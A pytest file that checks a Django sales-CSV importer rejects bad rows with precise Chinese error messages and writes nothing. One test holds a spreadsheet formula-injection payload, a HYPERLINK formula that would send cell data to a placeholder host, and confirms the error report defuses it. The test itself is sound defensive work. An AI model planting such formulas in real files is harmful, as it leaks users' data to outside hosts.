"""Bad files are refused with errors naming row, column, value and reason, and write nothing."""

from __future__ import annotations

import os

import polars as pl
import pytest
from django.core.files.storage import default_storage

from salestarget.actuals.models import PersonDaily, SalesLine, SalesMonthly
from salestarget.importing.models import ImportBatch
from tests.actuals.files import HEADER, csv_bytes, run_import
from tests.personas import Company

GOOD = "2026-03-02,SO1,1,CU-BJ,P-A,REP,2,200.50,100"


def assert_nothing_written(batch: ImportBatch) -> None:
    assert batch.status == ImportBatch.Status.REJECTED
    assert batch.rows_written == 0
    assert not SalesLine.objects.exists()
    assert not SalesMonthly.objects.exists()
    assert not PersonDaily.objects.exists()


def errors(batch: ImportBatch) -> list[tuple[int | None, str, str]]:
    return [(e["row"], e["column"], e["reason"]) for e in batch.errors_preview]


def test_missing_required_columns_are_named_with_the_files_headers(company: Company) -> None:
    batch = run_import(csv_bytes("2026-03-02,CU-BJ,10", header="日期,客户编码,备注"))
    assert_nothing_written(batch)
    assert "缺少必需的列" in batch.message
    for name in ("产品", "数量", "金额"):
        assert name in batch.message
    # Not the salesperson: a file without one is credited by a rule (test_import_crediting).
    assert "销售人员" not in batch.message
    assert "备注" in batch.message  # the file's own headers are listed


@pytest.mark.parametrize(
    ("cell", "reason"),
    [
        ("2026-02-30", "日期不存在"),
        ("2026/13/01", "日期不存在"),
        ("yesterday", "不是可识别的日期"),
        ("1899-01-01", "超出合理范围"),
        ("", "必填"),
    ],
)
def test_bad_dates_are_reported_by_row_and_column(company: Company, cell: str, reason: str) -> None:
    batch = run_import(csv_bytes(GOOD, f"{cell},SO1,2,CU-BJ,P-A,REP,1,10,5"))
    assert_nothing_written(batch)
    [(row, column, message)] = errors(batch)
    assert (row, column) == (3, "日期")
    assert reason in message


def test_unknown_product_customer_and_person_each_get_an_error(company: Company) -> None:
    batch = run_import(csv_bytes(GOOD, "2026-03-02,SO1,2,CU-NOPE,P-NOPE,NOBODY,1,10,5"))
    assert_nothing_written(batch)
    found = {(row, column): message for row, column, message in errors(batch)}
    assert "找不到客户“CU-NOPE”" in found[(3, "客户编码")]
    assert "找不到产品“P-NOPE”" in found[(3, "产品编码")]
    assert "找不到人员“NOBODY”" in found[(3, "销售人员")]


def test_a_person_without_a_membership_on_the_sale_date_is_an_error(company: Company) -> None:
    batch = run_import(csv_bytes("2022-06-01,SO1,1,CU-BJ,P-A,REP,1,10,5"))  # before SINCE
    assert_nothing_written(batch)
    [(row, column, message)] = errors(batch)
    assert (row, column) == (2, "销售人员")
    assert "2022-06-01 不属于任何组织" in message


def test_negative_quantity_with_a_positive_amount_is_not_a_return(company: Company) -> None:
    batch = run_import(csv_bytes(GOOD, "2026-03-02,SO1,2,CU-BJ,P-A,REP,-1,10,5"))
    assert_nothing_written(batch)
    assert (3, "数量") in {(r, c) for r, c, _m in errors(batch)}


def test_negative_amount_needs_a_negative_quantity(company: Company) -> None:
    batch = run_import(csv_bytes(GOOD, "2026-03-02,SO1,2,CU-BJ,P-A,REP,1,-10,5"))
    assert_nothing_written(batch)
    [(row, column, message)] = errors(batch)
    assert (row, column) == (3, "金额")
    assert "退货" in message


def test_return_flag_column_says_what_is_a_return(company: Company) -> None:
    header = f"{HEADER},退货"
    batch = run_import(
        csv_bytes(f"{GOOD},否", "2026-03-02,SO1,2,CU-BJ,P-A,REP,-1,-10,-5,否", header=header)
    )
    assert_nothing_written(batch)
    assert "没有标记为退货" in errors(batch)[0][2]
    batch = run_import(
        csv_bytes(f"{GOOD},否", "2026-03-02,SO1,2,CU-BJ,P-A,REP,1,10,5,是", header=header)
    )
    assert batch.status == ImportBatch.Status.DONE
    returned = SalesLine.objects.get(line_no="2")
    assert (returned.quantity, returned.amount, returned.cost) == (-1, -10, -5)


def test_duplicate_external_ids_in_one_file(company: Company) -> None:
    batch = run_import(csv_bytes(GOOD, GOOD.replace("200.50", "300")))
    assert_nothing_written(batch)
    [(row, column, message)] = errors(batch)
    assert (row, column) == (3, "行号")
    assert "SO1#1" in message
    assert "第 2 行" in message


def test_more_than_four_decimals_is_refused_not_rounded(company: Company) -> None:
    batch = run_import(csv_bytes("2026-03-02,SO1,1,CU-BJ,P-A,REP,2,200.12345,100"))
    assert_nothing_written(batch)
    assert "5 位小数" in errors(batch)[0][2]


def test_foreign_currency_is_refused(company: Company) -> None:
    batch = run_import(csv_bytes("2026-03-02,SO1,1,CU-BJ,P-A,REP,2,$200,100"))
    assert_nothing_written(batch)
    assert "USD" in errors(batch)[0][2]
    assert "CNY" in errors(batch)[0][2]
    batch = run_import(
        csv_bytes(
            "2026-03-02,SO1,1,CU-BJ,P-A,REP,2,200,100",
            header=HEADER.replace("金额", "Amount (USD)"),
        )
    )
    assert_nothing_written(batch)
    assert "USD" in batch.message


def test_empty_file_and_header_only_file(company: Company) -> None:
    assert "空的" in run_import(b"").message
    assert "空的" in run_import(b"\xef\xbb\xbf\n\n").message
    batch = run_import(csv_bytes())
    assert_nothing_written(batch)
    assert "没有数据行" in batch.message


def test_wrong_encoding_is_named(company: Company) -> None:
    # Shift-JIS bytes are valid in neither UTF-8 nor GB18030.
    data = "日付,金額\n".encode() + b"\x82\xa0\x82\xa2\x82\xa4\xff\xfe\x80\n"
    batch = run_import(data)
    assert batch.status == ImportBatch.Status.REJECTED
    assert "编码" in batch.message or "二进制" in batch.message


def test_ragged_line_names_its_row(company: Company) -> None:
    batch = run_import(csv_bytes(GOOD, "2026-03-02,SO1,2,CU-BJ,P-A,REP,1,10,5,extra,more"))
    assert_nothing_written(batch)
    assert "第 3 行" in batch.message


def test_ten_megabytes_of_garbage_is_refused_quickly(company: Company) -> None:
    batch = run_import(os.urandom(10 * 1024 * 1024), name="sales.csv")
    assert_nothing_written(batch)
    assert "二进制" in batch.message
    text_garbage = ("".join(chr(0x4E00 + (b % 2000)) for b in os.urandom(4000)) + "\n") * 900
    batch = run_import(text_garbage.encode())
    assert_nothing_written(batch)
    assert "缺少必需的列" in batch.message


def test_a_fake_excel_file_is_refused(company: Company) -> None:
    batch = run_import(b"PK\x03\x04" + os.urandom(5000), name="sales.xlsx")
    assert_nothing_written(batch)
    assert "Excel" in batch.message


def test_error_report_is_a_downloadable_csv_naming_row_column_value_reason(
    company: Company,
) -> None:
    batch = run_import(csv_bytes(GOOD, "2026-02-30,SO1,2,CU-BJ,P-NOPE,REP,1,abc,5"))
    assert batch.error_report
    with default_storage.open(batch.error_report, "rb") as fh:
        data = fh.read()
    assert data.startswith(b"\xef\xbb\xbf")
    report = pl.read_csv(data[3:], infer_schema=False)
    assert report.columns == ["行号", "列", "值", "原因"]
    rows = {(r["列"], r["值"]) for r in report.to_dicts()}
    assert rows == {("日期", "2026-02-30"), ("产品编码", "P-NOPE"), ("金额", "abc")}
    assert set(report["行号"]) == {"3"}


def test_good_rows_only_writes_the_good_rows(company: Company) -> None:
    batch = run_import(
        csv_bytes(GOOD, "2026-02-30,SO1,2,CU-BJ,P-A,REP,1,10,5"), mode=ImportBatch.Mode.GOOD_ROWS
    )
    assert batch.status == ImportBatch.Status.DONE
    assert (batch.rows_total, batch.rows_written, batch.rows_rejected) == (2, 1, 1)
    assert list(SalesLine.objects.values_list("external_id", flat=True)) == ["SO1#1"]
    assert SalesMonthly.objects.get().amount == 200.5


def test_dry_run_validates_and_writes_nothing(company: Company) -> None:
    batch = run_import(csv_bytes(GOOD), dry_run=True)
    assert batch.status == ImportBatch.Status.VALIDATED
    assert batch.rows_total == 1
    assert not SalesLine.objects.exists()


def test_the_error_report_quotes_a_formula_and_keeps_a_negative_number_as_a_number(
    company: Company,
) -> None:
    payload = '"=HYPERLINK(""http://x""&A1,""点击"")"'  # as a CSV file quotes it
    batch = run_import(
        csv_bytes(
            GOOD,
            f"2026-03-02,SO2,1,CU-BJ,{payload},REP,1,10,5",
            "2026-03-02,SO3,1,-5,P-A,REP,-2,-20,5",
        )
    )
    with default_storage.open(batch.error_report, "rb") as fh:
        report = pl.read_csv(fh.read()[3:], infer_schema=False)
    values = dict(zip(report["列"], report["值"], strict=True))
    assert values["产品编码"] == "'" + '=HYPERLINK("http://x"&A1,"点击")'
    assert values["客户编码"] == "-5"  # an unknown code that is a number stays a number
